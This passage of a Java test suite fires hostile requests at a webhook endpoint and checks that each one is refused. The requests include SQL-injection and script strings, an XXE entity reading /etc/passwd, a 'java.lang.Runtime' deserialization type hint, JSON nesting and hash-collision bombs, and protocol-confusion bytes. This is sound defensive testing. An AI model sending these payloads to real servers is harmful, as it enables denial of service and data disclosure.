                                        String.join("&", mode, token, "hub.challenge=%EF%BC%91"),
                                        String.join("&", mode, token, "hub.challenge=%C0%B1"),
                                        String.join("&", mode, token, "hub.challenge=%FF"),
                                        String.join("&", mode, token, "hub.challenge=%E2%80%AE1"),
                                        String.join("&", mode, token, "hub.challenge=%2"),
                                        String.join("&", mode, token, "hub.challenge=" + "1".repeat(201)),
                                        String.join("&", mode, token, "hub.challenge=" + "1".repeat(6_000)),
                                        String.join("&", "hub.mode=SUBSCRIBE", token, challenge),
                                        String.join("&", "hub.mode=unsubscribe", token, challenge),
                                        String.join("&", "hub.mode=" + CANARY, token, challenge),
                                        String.join("&", mode, token, challenge, "%zz=" + CANARY),
                                        String.join("&", mode, token, challenge, "%"),
                                        String.join("&", mode, token, challenge) + "&x".repeat(3_000),
                                        String.join("&", mode, token, challenge) + "&x=%80".repeat(1_100),
                                        "&x".repeat(10_000) + String.join("&", mode, token, challenge),
                                        "&".repeat(5_000),
                                        "=&=&=" + CANARY,
                                        "",
                                        "?" + String.join("&", mode, token, challenge))
                                .map(query -> new Attack(
                                        family,
                                        (query.length() > 120 ? query.substring(0, 120) : query) + " refused",
                                        get(PATH + "?" + query),
                                        "400")),
                        Stream.of(
                                        "wrong",
                                        "",
                                        CANARY,
                                        TOKEN + "x",
                                        TOKEN.substring(1),
                                        TOKEN + "%00",
                                        TOKEN + "%20",
                                        "+" + TOKEN,
                                        TOKEN.toUpperCase(java.util.Locale.ROOT),
                                        SECRET,
                                        "*",
                                        "%",
                                        "null",
                                        "%FF",
                                        "%C0%AB" + TOKEN.substring(1),
                                        "x".repeat(6_000),
                                        "'%20OR%201=1--",
                                        "%D9%A1")
                                .map(wrong -> new Attack(
                                        family,
                                        "with the token '" + (wrong.length() > 80 ? wrong.substring(0, 80) : wrong)
                                                + "'",
                                        get(PATH + "?" + mode + "&hub.verify_token=" + wrong + "&" + challenge),
                                        wrong.equals("%") || wrong.contains("%FF") || wrong.contains("%C0")
                                                ? "403|400"
                                                : "403")),
                        Stream.of(
                                        String.join("&", mode, token, challenge),
                                        String.join(
                                                "&",
                                                "hub%2Emode=subscribe",
                                                "hub.verify%5Ftoken=" + TOKEN,
                                                "%68ub.challenge=1158201444"),
                                        String.join("&", mode, token, "hub.challenge=%31158201444"),
                                        String.join(
                                                "&", mode, token, challenge, "x=%3Cscript%3E", "hub.other=" + CANARY))
                                .map(query -> new Attack(family, query + " accepted", get(PATH + "?" + query), "200")
                                        .answeredWith("1158201444")),
                        Stream.of(
                                new Attack(
                                                family,
                                                "with a challenge of 200",
                                                get(PATH + "?" + mode + "&" + token + "&hub.challenge="
                                                        + "1".repeat(200)),
                                                "200")
                                        .answeredWith("1".repeat(200)),
                                new Attack(
                                        family,
                                        "with markup in a raw query",
                                        get(PATH + "?" + mode + "&" + token + "&hub.challenge=<script>"),
                                        MALFORMED),
                                new Attack(
                                        family,
                                        "with the parameters in a body",
                                        request(
                                                        "GET " + PATH + " HTTP/1.1",
                                                        "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 72")
                                                + String.join("&", mode, token, challenge),
                                        "400"),
                                new Attack(
                                        family,
                                        "by HEAD",
                                        request("HEAD " + PATH + "?" + String.join("&", mode, token, challenge)
                                                + " HTTP/1.1"),
                                        "405"),
                                new Attack(
                                        family,
                                        "by POST",
                                        request("POST " + PATH + "?" + String.join("&", mode, token, challenge)
                                                + " HTTP/1.1"),
                                        "401"),
                                new Attack(
                                        family,
                                        "at another path",
                                        get("/?" + String.join("&", mode, token, challenge)),
                                        "404")))
                .flatMap(part -> part);
    }

    private static Stream<Attack> hosts() {
        String family = "host";
        return Stream.concat(
                Stream.of(
                        new Attack(
                                family,
                                "missing",
                                "GET /" + CANARY + " HTTP/1.1\r\nConnection: close\r\n\r\n",
                                MALFORMED),
                        new Attack(family, "twice", get("/" + CANARY, "Host: y"), MALFORMED),
                        new Attack(family, "twice alike", get("/" + CANARY, "Host: x"), MALFORMED),
                        new Attack(family, "of HTTP/1.0 missing", "GET /" + CANARY + " HTTP/1.0\r\n\r\n", "404"),
                        new Attack(family, "empty", get("/" + CANARY).replace("Host: x", "Host:"), "404|400"),
                        new Attack(family, "other than that of the target", get("http://y/" + CANARY), MALFORMED)),
                Stream.of(
                                "x y",
                                CANARY + "/x",
                                "x#y",
                                "x?y",
                                "a@x",
                                "x:port",
                                "x:99999999",
                                "x:-1",
                                "[::1",
                                "::1",
                                "[::1]x",
                                "[" + CANARY + "]",
                                "x\u00e9",
                                "x\u0000",
                                "x<script>",
                                "x,y",
                                "x\\y",
                                "http://x",
                                "%78",
                                "..",
                                "-",
                                "x:80:80",
                                "\"x\"",
                                "x;y",
                                "${" + CANARY + "}")
                        .map(host -> new Attack(
                                family,
                                "'" + host + "'",
                                get("/" + CANARY).replace("Host: x", "Host: " + host),
                                "400|404")));
    }

    private static Stream<Attack> versions() {
        String family = "version";
        return Stream.concat(
                Stream.of(
                        new Attack(family, "HTTP/0.9", "GET /" + CANARY + "\r\n", "400|"),
                        new Attack(
                                        family,
                                        "HTTP/0.9 at the path",
                                        "GET " + PATH + "?hub.mode=subscribe&hub.verify_token=" + TOKEN
                                                + "&hub.challenge=1\r\n\r\n",
                                        "400|")
                                .halfClosed(),
                        new Attack(family, "HTTP/1.0", "GET /" + CANARY + " HTTP/1.0\r\n\r\n", "404"),
                        new Attack(
                                        family,
                                        "HTTP/1.0 kept alive",
                                        genuine("{}", "Connection: keep-alive\r\nContent-Length: 2\r\n", "{}")
                                                .replace("HTTP/1.1", "HTTP/1.0")
                                                .repeat(3),
                                        "200 200 200")
                                .halfClosed(),
                        new Attack(
                                        family,
                                        "HTTP/1.0 without a length",
                                        "POST " + PATH + " HTTP/1.0\r\nX-Hub-Signature-256: " + signature("{}")
                                                + "\r\n\r\n{}",
                                        "401")
                                .halfClosed()),
                Stream.of(
                                "HTTP/0.9",
                                "HTTP/1.2",
                                "HTTP/1.9",
                                "HTTP/2",
                                "HTTP/2.0",
                                "HTTP/3",
                                "HTTP/3.0",
                                "HTTP/9.9",
                                "HTTP/1",
                                "HTTP/1.",
                                "HTTP/.1",
                                "HTTP/1.1x",
                                "HTTP/1.1 x",
                                "HTTP/1.10",
                                "HTTP/01.1",
                                "HTTP/-1.1",
                                "HTTP/1.1\u0000",
                                "http/1.1",
                                "HTTP /1.1",
                                "HTTPS/1.1",
                                "HTTP",
                                "/1.1",
                                "ICY/1.0",
                                "RTSP/1.0",
                                "SIP/2.0",
                                CANARY,
                                "1.1",
                                "HTTP/\u00b9.1",
                                "HTTP/1.1".repeat(1_000))
                        .map(version -> new Attack(
                                family,
                                "'" + (version.length() > 80 ? version.substring(0, 80) : version) + "'",
                                request("GET /" + CANARY + " " + version),
                                MALFORMED)));
    }

    private static Stream<Attack> otherProtocols() {
        String family = "protocol";
        String hello = "160301006d01000069030300000000000000000000000000000000000000000000000000000000000000000000"
                + "0002002f01000040000000120010000000" + "0d6b616e617269656e766f67656c2e6465"
                + "000d0004000204010017000000160000000500050100000000";
        return Stream.of(
                new Attack(family, "a TLS hello", HexFormat.of().parseHex(hello), "400|"),
                new Attack(
                        family,
                        "an SSL 2 hello",
                        HexFormat.of().parseHex("802e0100020015000000100100800200800300800400800500800600400700c0"),
                        "400|"),
                new Attack(
                        family,
                        "a PROXY line",
                        "PROXY TCP4 192.0.2.1 192.0.2.2 56324 443\r\n" + get("/" + CANARY),
                        MALFORMED),
                new Attack(family, "a PROXY line that knows nothing", "PROXY UNKNOWN\r\n" + get("/" + CANARY), ""),
                new Attack(
                        family,
                        "a PROXY header of version 2",
                        concat(
                                HexFormat.of().parseHex("0d0a0d0a000d0a515549540a2111000cc0000201c0000202dc0401bb"),
                                get("/" + CANARY)),
                        "400|"),
                new Attack(
                        family,
                        "an upgrade to HTTP/2",
                        get(PATH, "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA")
                                .replace("Connection: close", "Connection: close, Upgrade, HTTP2-Settings"),
                        "400"),
                new Attack(
                        family,
                        "an upgrade to HTTP/2 of a notification",
                        forged("{}", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA")
                                .replace("Connection: close", "Connection: close, Upgrade, HTTP2-Settings"),
                        "401"),
                new Attack(
                        family,
                        "an upgrade to a websocket",
                        get(
                                        "/" + CANARY,
                                        "Upgrade: websocket",
                                        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
                                        "Sec-WebSocket-Version: 13")
                                .replace("Connection: close", "Connection: close, Upgrade"),
                        "404"),
                new Attack(
                        family,
                        "an upgrade to a websocket at the path",
                        get(
                                        PATH,
                                        "Upgrade: websocket",
                                        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
                                        "Sec-WebSocket-Version: 13")
                                .replace("Connection: close", "Connection: close, Upgrade"),
                        "400"),
                new Attack(
                        family,
                        "an upgrade to TLS",
                        request("OPTIONS " + PATH + " HTTP/1.1", "Upgrade: TLS/1.2")
                                .replace("Connection: close", "Connection: close, Upgrade"),
                        "405"),
                new Attack(
                        family,
                        "an upgrade to what nobody knows",
                        get("/" + CANARY, "Upgrade: " + CANARY)
                                .replace("Connection: close", "Connection: close, Upgrade"),
                        "404"),
                new Attack(family, "SMTP", "EHLO " + CANARY + "\r\n", "400|").halfClosed(),
                new Attack(family, "SSH", "SSH-2.0-" + CANARY + "\r\n", "400|").halfClosed(),
                new Attack(family, "Redis", "*1\r\n$4\r\n" + CANARY + "\r\n", MALFORMED),
                new Attack(family, "memcached", "stats " + CANARY + "\r\n", "400|").halfClosed(),
                new Attack(
                                family,
                                "SMB",
                                HexFormat.of().parseHex("00000054ff534d4272000000001801280000000000000000000000000000"),
                                "400|")
                        .halfClosed(),
                new Attack(family, "RDP", HexFormat.of().parseHex("030000130ee000000000000100080003000000"), "400|")
                        .halfClosed(),
                new Attack(family, "SOCKS 5", HexFormat.of().parseHex("050100"), "400|").halfClosed(),
                new Attack(family, "AJP", HexFormat.of().parseHex("12340001a0"), "400|").halfClosed(),
                new Attack(family, "an object of Java", HexFormat.of().parseHex("aced00057372"), "400|").halfClosed(),
                new Attack(family, "a script", "#!/bin/sh\r\n" + CANARY + "\r\n\r\n", MALFORMED));
    }

    /** Whoever knows the secret may send anything: it is stored. */
    private static Stream<Attack> json() {
        String family = "json";
        String envelope =
                "{\"object\":\"whatsapp_business_account\",\"entry\":[{\"id\":\"1\",\"changes\":[{\"field\":\"messages\",\"value\":%s}]}]}";
        return Stream.of(
                json(family, "a million arrays, one in another", "[".repeat(1_000_000) + "]".repeat(1_000_000)),
                json(family, "a million arrays that do not end", "[".repeat(1_000_000)),
                json(family, "objects, one in another", "{\"a\":".repeat(200_000) + "1" + "}".repeat(200_000)),
                json(
                        family,
                        "a value that is deep",
                        String.format(envelope, "{\"messages\":[" + "[".repeat(100_000) + "]".repeat(100_000) + "]}")),
                json(
                        family,
                        "a number of a million digits",
                        String.format(envelope, "{\"messages\":[{\"timestamp\":" + "9".repeat(1_000_000) + "}]}")),
                json(
                        family,
                        "a number with a huge exponent",
                        String.format(envelope, "{\"messages\":[{\"timestamp\":1e999999999}]}")),
                json(
                        family,
                        "a number with a small exponent",
                        String.format(envelope, "{\"messages\":[{\"timestamp\":1e-999999999}]}")),
                json(
                        family,
                        "a time as text of a million digits",
                        String.format(
                                envelope,
                                "{\"messages\":[{\"id\":\"x\",\"timestamp\":\"" + "9".repeat(1_000_000) + "\"}]}")),
                json(
                        family,
                        "an array of a million numbers",
                        String.format(envelope, "[" + "1,".repeat(1_000_000) + "1]")),
                json(
                        family,
                        "a million entries",
                        "{\"object\":\"whatsapp_business_account\",\"entry\":[" + "1,".repeat(1_000_000) + "1]}"),
                json(
                        family,
                        "ten thousand empty entries",
                        "{\"object\":\"whatsapp_business_account\",\"entry\":[" + "{},".repeat(10_000) + "{}]}"),
                json(
                        family,
                        "a hundred thousand names, all alike",
                        String.format(envelope, "{" + "\"a\":1,".repeat(100_000) + "\"a\":1}")),
                json(family, "names whose hashes collide", String.format(envelope, collisions())),
                json(
                        family,
                        "names twice in the envelope",
                        "{\"entry\":[],\"entry\":[{\"id\":\"1\",\"id\":\"2\",\"changes\":[],\"changes\":[{\"field\":\"messages\",\"field\":\""
                                + CANARY + "\",\"value\":{},\"value\":1}]}]}"),
                json(family, "a name of a megabyte", String.format(envelope, "{\"" + CANARY.repeat(80_000) + "\":1}")),
                json(
                        family,
                        "a word of a megabyte",
                        String.format(envelope, "{\"messages\":[{\"type\":\"" + CANARY.repeat(80_000) + "\"}]}")),
                json(
                        family,
                        "a field of a megabyte",
                        String.format(envelope, "{}").replace("\"messages\"", "\"" + CANARY.repeat(80_000) + "\"")),
                json(
                        family,
                        "a wamid of a megabyte",
                        String.format(envelope, "{\"messages\":[{\"id\":\"" + CANARY.repeat(80_000) + "\"}]}")),
                json(
                        family,
                        "halves of surrogates",
                        String.format(envelope, "{\"messages\":[{\"id\":\"\\ud800\",\"from\":\"\\udc00\\ud800\"}]}")),
                json(family, "NUL in a name", String.format(envelope, "{\"\\u0000" + CANARY + "\":\"\\u0000\"}")),
                json(family, "NUL in the bytes", String.format(envelope, "{\"a\":\"\u0000\"}")),
                json(family, "control characters in the bytes", "\u0001\u0002" + CANARY),
                json(family, "a byte order mark", "\u00ef\u00bb\u00bf" + String.format(envelope, "{}")),
                json(
                        family,
                        "UTF-16",
                        new String(
                                String.format(envelope, "{}").getBytes(StandardCharsets.UTF_16),
                                StandardCharsets.ISO_8859_1)),
                json(family, "overlong UTF-8", String.format(envelope, "{\"a\":\"\u00c0\u00af\"}")),
                json(family, "escapes that are none", String.format(envelope, "{\"a\":\"\\x41\\u00zz\"}")),
                json(family, "NaN", String.format(envelope, "{\"a\":NaN,\"b\":-Infinity}")),
                json(family, "comments", "/* " + CANARY + " */ {} // x"),
                json(family, "XML", "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;" + CANARY + "</x>"),
                json(
                        family,
                        "a class to be made",
                        String.format(envelope, "{\"@class\":\"java.lang.Runtime\",\"@type\":\"x\",\"$type\":\"y\"}")),
                json(family, "two documents", "{}{} []"),
                json(family, "nothing but spaces, four megabytes of them", " ".repeat(4 << 20)),
                json(family, "nothing", ""));
    }

    private static Attack json(String family, String name, String body) {
        return new Attack(family, name, signed(body), "200");
    }

    /** "Aa" and "BB" have one hash code. */
    private static String collisions() {
        StringBuilder object = new StringBuilder("{");
        for (int i = 0; i < 1 << 13; i++) {
            object.append('"');
            for (int bit = 0; bit < 13; bit++) {
                object.append((i >> bit & 1) == 0 ? "Aa" : "BB");
            }
            object.append("\":1,");
        }
        return object.append("\"a\":1}").toString();
    }

    /** The same each time. */
    private static Stream<Attack> random() {
        Random random = new Random(SEED);
        return IntStream.range(0, 40).mapToObj(i -> {
            byte[] bytes = new byte[1 + random.nextInt(2_000)];
            random.nextBytes(bytes);
            byte[] sent = switch (i % 4) {
                case 0 -> bytes;
                case 1 ->
                    concat(
                            "POST ".getBytes(StandardCharsets.ISO_8859_1),
                            new String(bytes, StandardCharsets.ISO_8859_1));
                case 2 ->
                    concat(
                            ("POST " + PATH + " HTTP/1.1\r\nHost: x\r\n").getBytes(StandardCharsets.ISO_8859_1),
                            new String(bytes, StandardCharsets.ISO_8859_1));
                default ->
                    concat(
                            open(CHUNKED, "").getBytes(StandardCharsets.ISO_8859_1),
                            new String(bytes, StandardCharsets.ISO_8859_1));
            };
            return new Attack("random", "bytes " + i, sent, "(4\\d\\d)?").halfClosed();
        });
    }

    private static byte[] concat(byte[] first, String second) {
        byte[] rest = second.getBytes(StandardCharsets.ISO_8859_1);
        byte[] all = java.util.Arrays.copyOf(first, first.length + rest.length);
        System.arraycopy(rest, 0, all, first.length, rest.length);
        return all;
    }
}
